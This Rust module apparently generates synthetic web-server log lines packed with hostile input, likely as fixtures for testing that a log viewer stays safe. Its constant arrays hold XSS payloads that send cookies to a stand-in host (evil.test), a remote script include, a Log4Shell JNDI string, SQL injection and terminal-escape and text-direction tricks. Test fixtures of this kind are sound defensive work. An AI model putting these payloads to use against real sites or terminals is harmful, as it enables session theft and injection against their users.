//! What strangers send to a web server: markup, terminal escapes, tricks with text direction.

use serde_json::json;

use super::Moment;
use super::trace::{RequestId, TraceId};
use crate::demo::random::Random;

const AGENTS: [&str; 4] = [
    "<script>document.location='//evil.test/?c='+document.cookie</script>",
    "</script><script>fetch('//evil.test/'+localStorage.length)</script>",
    "\"><svg/onload=alert(1)>",
    "Mozilla/5.0 <script src=//evil.test/x.js></script>",
];
const REFERRERS: [&str; 4] = [
    "<img onerror=alert(1) src=x>",
    "javascript:alert(document.domain)//<img onerror=alert(2) src=x>",
    "' or 1=1; drop table users; --<img onerror=alert(3) src=x>",
    "${jndi:ldap://evil.test/a}<img onerror=alert(4) src=x>",
];
const ESCAPES: [&str; 4] = [
    "\x1b]0;owned\x07\x1b[2J\x1b[H<script>alert('cleared')</script>",
    "\x1b]8;;javascript:alert(1)\x1b\\<script>alert('click me')</script>\x1b]8;;\x1b\\",
    "admin\x1b[8m hidden <script>alert(1)</script>\x1b[28m\r\x1b[Kaccess granted",
    "\u{202e}gpj.stnemucod\u{202c} \u{200b}\x1b[5;41m<script>alert('bidi')</script>\x1b[0m\0\x08\x08",
];

/// Markup in a JSON line and escapes in a plain one, in turn.
pub(super) fn line(random: &mut Random, moment: Moment, service: &str, turn: usize) -> String {
    if turn.is_multiple_of(2) { escapes(random) } else { markup(random, moment, service) }
}

fn markup(random: &mut Random, moment: Moment, service: &str) -> String {
    json!({
        "level": "WARN",
        "msg": format!("rejected comment: {}", random.pick(AGENTS)),
        "service": service,
        "request_id": RequestId::drawn(random).to_string(),
        "trace_id": TraceId::drawn(random, moment).to_string(),
        "method": "POST",
        "path": "/comments?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "status": 400,
        "latency_ms": 2 + random.below(9),
        "user": { "id": "anonymous", "agent": random.pick(AGENTS) },
        "referrer": random.pick(REFERRERS),
    })
    .to_string()
}

fn escapes(random: &mut Random) -> String {
    let octet = random.below(254) + 1;
    format!("203.0.113.{octet} - \"GET /{} HTTP/1.1\" 404 162", random.pick(ESCAPES))
}
